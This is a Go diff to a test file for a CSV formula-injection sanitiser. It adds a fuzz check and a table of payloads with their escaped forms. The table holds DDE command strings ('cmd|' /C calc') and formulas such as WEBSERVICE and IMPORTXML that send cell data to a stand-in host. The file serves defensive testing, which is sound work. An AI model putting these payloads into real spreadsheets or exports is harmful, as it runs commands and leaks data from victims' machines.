@@ -62,8 +62,14 @@ func FuzzSafeCell(f *testing.F) {
 		assertNoLeadingTrigger(t, got)
 		// The renderers' own cell processing keeps the property.
 		assertNoLeadingTrigger(t, csvText(got))
-		if cell := csvCell(s); cell != csvText(got) {
-			t.Fatalf("csvCell(%q) = %q, want %q", s, cell, csvText(got))
+		csvGot := SafeCSVCell(s)
+		if cell := csvCell(s); cell != csvGot {
+			t.Fatalf("csvCell(%q) = %q, want %q", s, cell, csvGot)
+		}
+		assertNoSegmentTrigger(t, csvGot)
+		// The CSV variant only inserts quotes into the text SafeCell made.
+		if strings.ReplaceAll(csvGot, "'", "") != strings.ReplaceAll(csvText(got), "'", "") {
+			t.Fatalf("SafeCSVCell(%q) = %q changes more than quotes", s, csvGot)
 		}
 		assertNoLeadingTrigger(t, truncateCell(got))
 		if truncated := truncateCell(got); truncated != got {
@@ -84,6 +90,69 @@ func assertNoLeadingTrigger(t *testing.T, s string) {
 	r, _ := utf8.DecodeRuneInString(trimmed)
 	if isTrigger(r) {
 		t.Fatalf("cell %q starts with trigger %q", s, r)
+	}
+}
+
+// embeddedPayloads put a trigger after a separator inside the cell: harmless to a reader
+// that honours CSV quoting, a formula to Excel in a ";" locale or to a reader that splits on
+// tabs or lines. want is SafeCSVCell's answer.
+var embeddedPayloads = []struct{ in, want string }{
+	{"x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"},
+	{"x,=cmd|' /C calc'!A0", "x,'=cmd|' /C calc'!A0"},
+	{"x\t=cmd|' /C calc'!A0", "x\t'=cmd|' /C calc'!A0"},
+	{"x\n=cmd|' /C calc'!A0", "x\n'=cmd|' /C calc'!A0"},
+	{"x\r\n@SUM(1+1)*cmd|' /C calc'!A0", "x\n'@SUM(1+1)*cmd|' /C calc'!A0"},
+	{"x\r+1", "x\n'+1"},
+	{"a;+1;-1;@A1", "a;'+1;'-1;'@A1"},
+	{"a; =1", "a;' =1"},
+	{"a;\u00a0\u200b=1", "a;'\u00a0\u200b=1"},
+	{"a;＝1", "a;'＝1"},
+	{"a;﹢1", "a;'﹢1"},
+	{"a;\"=1", "a;'\"=1"},
+	{"\"=1", "'\"=1"},
+	{"a;;=1", "a;;'=1"},
+	{"a;\t=1", "a;\t'=1"},
+	{"=1;=2", "'=1;'=2"},
+	{"user;=WEBSERVICE(\"http://x.example/?\"&A2)", "user;'=WEBSERVICE(\"http://x.example/?\"&A2)"},
+	{"user;=HYPERLINK(\"http://x.example/?\"&B2;\"Click\")", "user;'=HYPERLINK(\"http://x.example/?\"&B2;\"Click\")"},
+	{"Login;=IMPORTXML(CONCAT(\"http://x.example/?\";A1);\"//a\")", "Login;'=IMPORTXML(CONCAT(\"http://x.example/?\";A1);\"//a\")"},
+	// Not triggers after the separator: unchanged.
+	{"alice, bob; carol", "alice, bob; carol"},
+	{"10.0.0.1;10.0.0.2", "10.0.0.1;10.0.0.2"},
+	{"a;'=1", "a;'=1"},
+	{"x-1;y+2", "x-1;y+2"},
+	{"a;", "a;"},
+	{"a; ", "a; "},
+}
+
+func TestSafeCSVCell(t *testing.T) {
+	for _, tc := range embeddedPayloads {
+		assert.Equal(t, tc.want, SafeCSVCell(tc.in), "%q", tc.in)
+		assert.Equal(t, tc.want, csvCell(tc.in), "csvCell %q", tc.in)
+		assertNoSegmentTrigger(t, SafeCSVCell(tc.in))
+	}
+	for _, s := range injectionPayloads {
+		assertNoSegmentTrigger(t, SafeCSVCell(s))
+	}
+	// The fast path returns the cell itself.
+	for _, s := range []string{"", "plain", "alice@example.com", "a,b;c", "2026-03-29T01:00:00+01:00"} {
+		assert.Equal(t, s, csvCell(s))
+	}
+}
+
+// assertNoSegmentTrigger checks every piece of a CSV cell that a reader ignoring quotes
+// could take for a cell of its own: after whitespace, invisible characters and double
+// quotes, none starts with a trigger.
+func assertNoSegmentTrigger(t *testing.T, s string) {
+	t.Helper()
+	for _, seg := range strings.FieldsFunc(s, func(r rune) bool { return r == ',' || r == ';' || r == '\t' || r == '\n' || r == '\r' }) {
+		trimmed := strings.TrimLeftFunc(seg, func(r rune) bool { return r == '"' || isLeadingFiller(r) && !isTrigger(r) })
+		if trimmed == "" {
+			continue
+		}
+		if r, _ := utf8.DecodeRuneInString(trimmed); isTrigger(r) {
+			t.Fatalf("cell %q: segment %q starts with trigger %q", s, seg, r)
+		}
 	}
 }
 
